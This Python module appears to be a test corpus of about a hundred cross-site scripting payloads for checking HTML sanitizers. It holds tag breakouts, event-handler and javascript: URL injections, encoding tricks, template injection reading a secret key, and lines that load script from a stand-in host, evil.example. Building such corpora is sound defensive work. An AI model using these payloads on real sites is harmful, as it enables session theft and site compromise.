"""A hundred texts that some page somewhere has run, or been broken by; each calls `__xss()`."""

__all__ = ["PAYLOADS", "packed"]

BASIC = """
<script>__xss()</script>
<ScRiPt>__xss()</sCrIpT>
<script src=//evil.example/x.js></script>
<script src=data:text/javascript,__xss()></script>
<script type=module>__xss()</script>
<scr<script>ipt>__xss()</scr</script>ipt>
<<script>__xss();//<</script>
<script/x>__xss()</script>
</script><script>__xss()</script>
</script><svg onload=__xss()>
</SCRIPT ><img src=x onerror=__xss()>
<!--<script>
--><script>__xss()</script>
--!><img src=x onerror=__xss()>
]]><script>__xss()</script>
<![CDATA[><script>__xss()</script>]]>
</title><script>__xss()</script>
</textarea><script>__xss()</script>
</style><script>__xss()</script>
</noscript><img src=x onerror=__xss()>
</select></option><img src=x onerror=__xss()>
</bdi></li></ol><img src=x onerror=__xss()>
<noscript><p title="</noscript><img src=x onerror=__xss()>">
<template><script>__xss()</script></template>
<plaintext>
<xmp><img src=x onerror=__xss()></xmp>
""".strip()

EVENTS = """
<img src=x onerror=__xss()>
<img src=x onerror="__xss()">
<img/src=`x`onerror=__xss()>
<IMG SRC=x OnErRoR=__xss()>
<img src=x:x onerror\t=\t__xss()>
<svg onload=__xss()>
<svg/onload=__xss()>
<svg><script>__xss()</script></svg>
<svg><script href=data:,__xss() /></svg>
<svg><animate onbegin=__xss() attributeName=x dur=1s>
<svg><use href="data:image/svg+xml,<svg id=x onload=__xss() />#x">
<svg><a xlink:href=javascript:__xss()><text y=9>a</text></a></svg>
<math><mtext><mglyph><style><!--</style><img src=x onerror=__xss()>
<math href=javascript:__xss()>a</math>
<body onload=__xss()>
<body onpageshow=__xss()>
<html onmousemove=__xss()>
<input autofocus onfocus=__xss()>
<select autofocus onfocus=__xss()>
<textarea autofocus onfocus=__xss()>
<details open ontoggle=__xss()>
<video src=x onerror=__xss()>
<video><source onerror=__xss()></video>
<audio src=x onerror=__xss()>
<marquee onstart=__xss()>
<div style=animation-name:x onanimationstart=__xss()>
<style>@keyframes x{}</style><p style=animation:x onanimationend=__xss()>
<button popovertarget=p>a</button><p popover id=p onbeforetoggle=__xss()>
<xss id=x tabindex=1 onfocus=__xss()>#x
<object data=javascript:__xss()>
<embed src=javascript:__xss()>
<iframe src=javascript:__xss()>
<iframe srcdoc="<script>parent.__xss()</script>">
<iframe onload=__xss()>
<base href=//evil.example/>
<link rel=stylesheet href=//evil.example/x.css>
<meta http-equiv=refresh content="0;url=javascript:__xss()">
<meta http-equiv=Content-Security-Policy content="script-src *">
<form action=javascript:__xss()><button>a</button></form>
<form id=chat-config><input name=textContent>
<a href=javascript:__xss()>a</a>
<a href="java\tscript:__xss()">a</a>
<a href=&#106;avascript:__xss()>a</a>
<style>@import'//evil.example/x.css';</style>
""".strip()

BREAKOUTS = """
" onmouseover="__xss()
' onmouseover='__xss()
"><script>__xss()</script>
'><img src=x onerror=__xss()>
" autofocus onfocus=__xss() x="
"-__xss()-"
'-__xss()-'
\\";__xss();//
\\u003cscript\\u003e__xss()\\u003c/script\\u003e
${__xss()}
`${__xss()}`
{{ __xss() }}
{{constructor.constructor('__xss()')()}}
{% include "admin/base.html" %}{{ settings.SECRET_KEY }}
{# #}{% load static %}<%= __xss() %>
javascript:__xss()
JaVaScRiPt:__xss()
data:text/html,<script>__xss()</script>
&lt;script&gt;__xss()&lt;/script&gt;
&#60;img src=x onerror=__xss()&#62;
&#x3C;svg onload=__xss()&#x3E;
&LT;img src=x onerror=__xss()&GT;&amp;&nbsp
&#0;&#xD800;&#99999999;&bogus;&lt
%3Cscript%3E__xss()%3C/script%3E
+ADw-script+AD4-__xss()+ADw-/script+AD4-
__proto__
<img src=x onerror=__xss()//"'`></title></script>-->*/
jaVasCript:/*-/*`/*\\`/*'/*"/**/(/* */oNcliCk=__xss() )//%0D%0A
""".strip()

ODD = [
    "<script\n>__xss()</script\n>",
    "<script>/*\n*/__xss()/*\n*/</script>",
    "\u202e<script>__xss()</script>",  # read from right to left
    "\u2066\u2067<img src=x onerror=__xss()>\u2069",
    "<\u0000script>__xss()</script>",  # NUL
    "<img src=x one\u0000rror=__xss()>",
    "<scr\u200dipt>__xss()</scr\u200dipt>",  # zero-width joiner
    "\ufeff<svg onload=__xss()>",
    "\uff1cscript\uff1e__xss()\uff1c/script\uff1e",  # as a careless database would make it
    "\u2028</script><script>__xss()</script>\u2029",  # lines to JavaScript, once
    "\u0130<script>__xss()</script>\u0131\u017f",  # other lengths in lower case
    "\U0001f469\u200d\U0001f4bb<b>__xss()</b>\u0301\u0301\u0301\u0301",
    "\u05d0\u05d1<svg onload=__xss()>\u0627\u0644",
    "<" * 60 + "script>__xss()",
    "w" * 3000 + "<img src=x onerror=__xss()>",  # a huge word
    "<p>" * 300,
    "\x1b[31m\x07\x08<svg/onload=__xss()>",
    "\t\r\n<svg\r\nonload=__xss()>\t",
]


def packed(characters: int) -> list[str]:
    """All of them in few texts that are no longer than this; the beginning of who is too long."""
    texts = [""]
    for payload in (one.replace("\0", "")[:characters] for one in PAYLOADS):
        if len(texts[-1]) + len(payload) > characters:
            texts.append("")
        texts[-1] += payload
    return texts


def _lines(text: str) -> list[str]:
    return [line for line in text.split("\n") if line]


PAYLOADS = [*_lines(BASIC), *_lines(EVENTS), *_lines(BREAKOUTS), *ODD]
